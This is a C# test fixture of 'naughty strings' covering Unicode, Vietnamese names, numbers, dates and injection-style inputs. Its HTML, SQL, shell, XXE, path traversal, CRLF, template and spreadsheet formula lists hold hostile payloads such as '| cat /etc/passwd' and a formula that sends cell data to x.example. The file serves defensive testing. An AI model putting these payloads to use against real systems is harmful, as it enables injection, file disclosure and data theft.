namespace HaiCap.Testing;

/// <summary>
/// Texts that have broken programs like this one, by what they try. Written for this project. Markup carries the element <c>hc-x</c> or the attribute
/// <c>hc-attr</c>: found in a parsed page, it was not escaped. What a form cannot carry (half a surrogate pair) stands apart.
/// </summary>
public static class NaughtyStrings
{
    /// <summary>The element and the attribute that must never come out as such.</summary>
    public const string Element = "hc-x", Attribute = "hc-attr";

    /// <summary>Control characters: C0, DEL, C1, line and paragraph separators.</summary>
    public static readonly IReadOnlyList<string> Control =
    [
        "\U0010ffff", "a\U0001fffeb",
        "\0", "a\0b", "Nguyễn\0Văn", "\u0001", "a\u0002b", "\u0007chuông", "xóa\u0008lùi", "\u000b", "dòng\u000bmới", "\u000c", "trang\u000cmới", "\u001b[31mđỏ\u001b[0m",
        "\u001a", "\u001f", "\u007f", "a\u007fb", "\u0080", "\u0085", "a\u0085b", "\u009b1m", "\u2028", "a\u2028b", "\u2029", "a\u2029b", "\r", "\n", "\r\n", "a\rb", "a\nb",
        "a\r\n\r\nb", "\t", "\ta", "a\tb", " a ", "\u00a0", "a\u00a0b", "\ufeff", "\ufeffa", "\ufffe", "\uffff", "\ufdd0", "\ufffd",
    ];

    /// <summary>Zero width, joiners, fillers, tags, variation selectors.</summary>
    public static readonly IReadOnlyList<string> Invisible =
    [
        "\u200b", "a\u200bb", "\u200c", "\u200d", "\u2060", "\u00ad", "mềm\u00admại", "\u034f", "\u115f", "\u3164", "\u180e", "\u2800", "\U000e0041\U000e0042", "a\ufe0f",
        "\u2061x", "\u206a", "\ufff9a\ufffab\ufffb",
    ];

    /// <summary>Right to left, and marks that turn the direction.</summary>
    public static readonly IReadOnlyList<string> Direction =
    [
        "שלום", "مرحبا بالعالم", "\u202eexe.pdf", "hoa-don\u202efdp.exe", "\u202d123", "\u2066a\u2069", "\u2067kết\u2069quả", "\u200fa", "\u061ca", "abc אבג 123", "\u200f﷽",
        "\u202a\u202b\u202c",
    ];

    /// <summary>Combining marks, decomposed Vietnamese, towers of marks, precomposed oddities.</summary>
    public static readonly IReadOnlyList<string> Combining =
    [
        "Nguyê\u0303n", "Tra\u0302\u0300n Va\u0306n A\u0301nh", "Nguye\u0302\u0303n Thi\u0323 Hoa\u0300", "D\u0323ang", "u\u031bo\u031b\u0301c", "a\u0323\u0302",
        "a\u0302\u0323", "\u0301", "\u0301a", "a" + Many("\u0300", 60), "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033dA\u0334\u0319\u0324", "ﬁ ﬂ ﬃ", "ǆ Ǆ ǅ", "Å Å Å", "ẛ\u0323",
        "각 각", "ệ", "ể ễ ế ề ệ", "đĐ",
    ];

    /// <summary>Letters whose case is no simple thing.</summary>
    public static readonly IReadOnlyList<string> Case =
    [
        "İstanbul", "ıI iİ", "ß ẞ SS", "ŉ", "ΐ", "ﬀ", "ς σ Σ", "ĳ Ĳ", "K", "ſ", "NGUYỄN THỊ ƯỚC", "Ⓐⓐ", "ﬅ",
    ];

    /// <summary>Full width, mathematical, circled, look-alikes.</summary>
    public static readonly IReadOnlyList<string> Width =
    [
        "Ａｄｍｉｎ", "１２３４５", "𝐇𝐞𝐥𝐥𝐨", "𝕍𝕚𝕖𝕥", "аdmin", "Νguyen", "＜script＞", "‘’“”«»", "…", "℀ ⅓ ㍿", "Ⅷ", "٠١٢٣", "०१२३", "𝟘𝟙𝟚",
    ];

    /// <summary>Emoji, sequences, flags, halves of them.</summary>
    public static readonly IReadOnlyList<string> Emoji =
    [
        "😀", "👨\u200d👩\u200d👧\u200d👦", "🏳\ufe0f\u200d🌈", "🇻🇳", "👍🏽", "❤\ufe0f", "1\ufe0f\u20e3", "🧑🏿\u200d🦰", "🇻", Many("🧿", 40), "𠜎𠜱𠝹", "☠",
    ];

    /// <summary>Long texts, with and without breaks.</summary>
    public static readonly IReadOnlyList<string> Long =
    [
        Many("a", 255), Many("a", 256), Many("a", 1000), Many("ệ", 1000), Many("dài ", 1250), Many("W", 5000), Many("\u0301", 500), Many("a\n", 500), Many("😀", 500),
        Many("x", 20001), Many("(", 2000),
    ];

    /// <summary>Nothing, or what is taken for nothing.</summary>
    public static readonly IReadOnlyList<string> Empty =
    [
        " ", "   ", "null", "NULL", "undefined", "None", "nil", "NaN", "Infinity", "-Infinity", "true", "false", "[]", "{}", "[object Object]", "\"\"", "''", "()", "-", "0",
        "-0",
    ];

    /// <summary>Numbers that are too large, too small, or written strangely.</summary>
    public static readonly IReadOnlyList<string> Number =
    [
        "1e309", "-1e309", "1E+02", "0x10", "010", "1,000.50", "1.000,50", "999999999999999999999999", "-9223372036854775809", "2147483648", "-2147483649", "0.1e-400", "1/0",
        "٣", "½", "1_000", "+1", "1.", "١٢", "--1", "00000000000000000000001",
    ];

    /// <summary>Days and hours that are none.</summary>
    public static readonly IReadOnlyList<string> Date =
    [
        "31/02/2026", "2026-02-30", "0000-00-00", "9999-12-31T23:59:60Z", "-0001-01-01", "10000-01-01", "29/02/2025", "24:00", "12:60", "1/1/1", "2026-W53-7",
    ];

    /// <summary>Markup that must come back as text.</summary>
    public static readonly IReadOnlyList<string> Html =
    [
        "<hc-x>", "<b>đậm</b><hc-x>", "</textarea><hc-x>", "</title><hc-x>", "</script><hc-x>", "</style><hc-x>", "--><hc-x>", "]]><hc-x>", "\"><hc-x>", "'><hc-x>",
        "\" hc-attr=\"1", "' hc-attr='1", "` hc-attr=`1", "x onmouseover=hc() hc-attr", "<hc-x/onload=hc()>", "<svg/onload=hc()><hc-x>", "<img src=x onerror=hc()><hc-x>",
        "<a href=\"javascript:hc()\">x</a><hc-x>", "<iframe srcdoc='<hc-x>'>", "<math><mi xlink:href=\"data:x,<hc-x>\">", "<!--<hc-x>-->", "<![CDATA[<hc-x>]]>",
        "<?xml version=\"1.0\"?><hc-x/>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;", "&lt;hc-x&gt;", "&#60;hc-x&#62;", "&amp;", "&nbsp;", "&#0;",
        "&#xD800;", "<hc-x", "<\0hc-x>", "<hc-x\n>", "%3Chc-x%3E", "\\u003chc-x\\u003e", "\\x3chc-x\\x3e", "<base href=//x.example><hc-x>", "<form action=//x.example><hc-x>",
        "<meta http-equiv=refresh content=0><hc-x>", "<style>*{}</style><hc-x>", "<plaintext>",
    ];

    /// <summary>Endings of JavaScript strings and templates.</summary>
    public static readonly IReadOnlyList<string> Script =
    [
        "';hc()//", "\";hc()//", "`;hc()//", "${hc()}", "{{7*7}}", "{{constructor.constructor('hc()')()}}", "[[7*7]]", "<%= 7*7 %>", "#{7*7}", "@(7*7)", "@{ throw null; }",
        "@Model.Secret", "*{7*7}", "javascript:hc()", "data:text/html,<hc-x>", "vbscript:hc", "__proto__", "constructor", "toString", "hasOwnProperty",
    ];

    /// <summary>Endings of SQL strings, and wild cards.</summary>
    public static readonly IReadOnlyList<string> Sql =
    [
        "'", "''", "\"", "`", "';--", "' OR '1'='1", "1; DROP TABLE dossiers", "'; DELETE FROM acts; --", "\\'", "\\", "\\\\", "%", "_", "%%", "a%b_c", "[a-z]", "100%",
        "' UNION SELECT NULL--", "1) OR (1=1", "/*", "*/", "--", "$1", "@p0", ":p", "E'\\x00'", "||", "pg_sleep(1)",
    ];

    /// <summary>What a search language would take for an order.</summary>
    public static readonly IReadOnlyList<string> Search =
    [
        "AND", "OR NOT", "a:b", "a & b | c", "!a", "(a", "a)", "\"a", "*", "?", "~", "^2", "+a -b", "NEAR(a)", "a*", "{a TO b}", "tsquery & 'x'",
    ];

    /// <summary>Cells a spreadsheet would run.</summary>
    public static readonly IReadOnlyList<string> Formula =
    [
        "=1+1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://x.example\",\"hc\")", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
        "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")", "%0A=1+1", "＝1+1", "＠SUM(1)", "＋1", "－1", "a,b", "a;b", "a\"b", "a\"\"b", "\"a\",\"b\"", "a|b", " =1+1",
        ";=1+1", ",=1+1",
    ];

    /// <summary>LDAP, XPath, regular expressions, JSON, YAML.</summary>
    public static readonly IReadOnlyList<string> Ldap =
    [
        "*)(uid=*))(|(uid=*", "admin)(&)", "' or '1'='1' or ''='", "//user[name()='x']", "(a+)+$", "^(([a-z])+.)+[A-Z]([a-z])+$", "[", "(?<", "{\"$gt\":\"\"}",
        "{\"a\":1,\"a\":2}", "!!python/object", "&a [*a]", "- a: b", "%YAML", "key: \"value",
    ];

    /// <summary>Shells, paths, devices, protocols.</summary>
    public static readonly IReadOnlyList<string> Shell =
    [
        "; ls", "| cat /etc/passwd", "`id`", "$(id)", "&& id", "> /tmp/x", "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\con\\con", "CON", "NUL",
        "aux.txt", "LPT1", "file:///etc/passwd", "\\\\x.example\\a", "%2e%2e%2f", "....//", "~root", "a/../b", "http://169.254.169.254/", "ftp://x.example", "jar:file:a!b",
    ];

    /// <summary>Ends of lines a header or a log would take.</summary>
    public static readonly IReadOnlyList<string> Header =
    [
        "a\r\nSet-Cookie: hc=1", "a\r\n\r\n<hc-x>", "a%0d%0aSet-Cookie:%20hc=1", "a\nX-Hc: 1", "a\rX-Hc: 1", "嘍嘊Set-Cookie: hc=1", "to@x.example\r\nBcc: y@x.example",
        "hc\\r\\nX-Hc: 1",
    ];

    /// <summary>Formats, and what a typesetter would run.</summary>
    public static readonly IReadOnlyList<string> Format =
    [
        "%s%s%n", "%d", "{0}", "{0:x}", "{", "}", "{{", "}}", "{-1}", "$$", "#import \"/etc/passwd\"", "#read(\"/etc/passwd\")", "#sys.inputs", "*đậm* _nghiêng_ `mã`",
        "= Đề mục", "#let x = 1", "@ref", "$x^2$", "\\u{1F600}", "//comment", "/* a", "<label>", "#panic()", "~", "---", "\\textbf{x}", "\\input{/etc/passwd}",
    ];

    /// <summary>Names that are true and hard.</summary>
    public static readonly IReadOnlyList<string> People =
    [
        "O'Brien", "Đặng Thị Ý", "Ê", "Ng", "Nguyễn-Lê", "Nguyễn (Anna) Mai", "H'Hen Niê", "Y Ƀhăm Ênuôl", "Rơ Châm Ơi", "K’Brêu", "Siu Ƀlek", "María José", "Müller", "Jr.",
        "Nguyễn Văn A.", "Lò Văn Pảo", "Điểu K'Rứ", "Test", "Null Nguyễn", "Ӧ", "Trần Thị Thu Thủy ", "TRẦN  VĂN   BA",
    ];

    /// <summary>Halves of surrogate pairs: only JSON and our own code can carry them.</summary>
    public static readonly IReadOnlyList<string> Halves = ["\ud800", "a\udfffb", "\udc00\ud800", "Nguyễn\ud83d"];

    public static readonly IReadOnlyList<string> All =
    [
        .. Control, .. Invisible, .. Direction, .. Combining, .. Case, .. Width, .. Emoji, .. Long, .. Empty, .. Number, .. Date, .. Html, .. Script, .. Sql, .. Search, .. Formula, .. Ldap, .. Shell, .. Header, .. Format, .. People,
    ];

    private static string Many(string piece, int times) => string.Concat(Enumerable.Repeat(piece, times));
}
